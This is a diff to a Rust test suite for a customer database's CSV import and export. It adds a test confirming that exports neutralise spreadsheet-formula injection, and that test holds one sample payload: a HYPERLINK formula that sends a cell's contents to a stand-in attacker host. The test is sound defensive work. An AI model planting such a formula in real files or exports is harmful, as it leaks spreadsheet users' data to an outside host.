@@ -360,7 +360,7 @@ test_both!(export_round_trips, |db: TestDb| async move {
     let s = &db.store;
     import(s, ImportKind::Customers, "c.csv", CUSTOMERS_CSV.into(), |_| {}).await;
     let mut out = Vec::new();
-    let n = s.export_customers(&cli(), &CustomerFilter::default(), &mut out).await.unwrap();
+    let n = s.export_customers(&cli(), &CustomerFilter::default(), &mut out, false).await.unwrap();
     assert_eq!(n, 3);
     let text = String::from_utf8(out.clone()).unwrap();
     assert!(text.starts_with("customer_id,kind,name"));
@@ -369,6 +369,29 @@ test_both!(export_round_trips, |db: TestDb| async move {
     let r = import(s, ImportKind::Customers, "export.csv", out, |_| {}).await;
     assert_eq!((r.updated, r.rejected), (3, 0), "{:?}", r.rejections);
     assert_eq!(count(s, "customer_changes").await, changes, "re-importing an export changes nothing");
+});
+
+test_both!(exports_do_not_carry_spreadsheet_formulas, |db: TestDb| async move {
+    // CSV injection (OWASP): a value a spreadsheet would run gets an apostrophe in front; the
+    // importer takes it off, so the export still round-trips; `raw` writes values as stored.
+    let s = &db.store;
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")";
+    let file = format!("customer_id,name,city,tags\nF1,\"{}\",@上海,-vip\n", evil.replace('"', "\"\""));
+    let r = import(s, ImportKind::Customers, "f.csv", file.into_bytes(), |_| {}).await;
+    assert_eq!(r.created, 1, "{:?}", r.rejections);
+    let mut out = Vec::new();
+    s.export_customers(&cli(), &CustomerFilter::default(), &mut out, false).await.unwrap();
+    let text = String::from_utf8(out.clone()).unwrap();
+    let row = text.lines().nth(1).unwrap().to_owned();
+    assert!(row.contains("'=HYPERLINK") && row.contains("'@上海") && row.contains("'-vip"), "{row}");
+    assert!(!row.split(',').any(|cell| cell.starts_with('=') || cell.starts_with('@')), "{row}");
+    let changes = count(s, "customer_changes").await;
+    let r = import(s, ImportKind::Customers, "export.csv", out, |_| {}).await;
+    assert_eq!(r.rejected, 0, "{:?}", r.rejections);
+    assert_eq!(count(s, "customer_changes").await, changes, "the neutralised export re-imports unchanged");
+    let mut raw = Vec::new();
+    s.export_customers(&cli(), &CustomerFilter::default(), &mut raw, true).await.unwrap();
+    assert!(String::from_utf8(raw).unwrap().contains(",@上海,"), "raw keeps the values as stored");
 });
 
 test_both!(users_tokens_and_sessions, |db: TestDb| async move {
